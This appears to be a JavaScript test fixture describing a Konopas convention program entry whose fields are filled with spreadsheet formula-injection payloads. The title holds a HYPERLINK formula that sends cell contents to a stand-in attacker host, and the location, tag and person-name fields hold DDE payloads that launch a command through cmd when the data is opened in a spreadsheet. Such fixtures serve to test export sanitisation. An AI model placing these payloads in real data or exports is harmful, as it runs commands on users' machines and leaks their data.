var program = [
 {
  "id": "kono11=17",
  "title": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bees\") by Konopas",
  "date": "2027-05-03",
  "time": "10:00",
  "mins": "30",
  "loc": [
   "+1+cmd|' /C calc'!A0"
  ],
  "tags": [
   "track:-2+3+cmd|' /C calc'!A0"
  ],
  "desc": "=1+1",
  "links": {
   "session": "https://bees.example/17"
  },
  "people": [
   {
    "id": "1",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0"
   }
  ]
 }
];
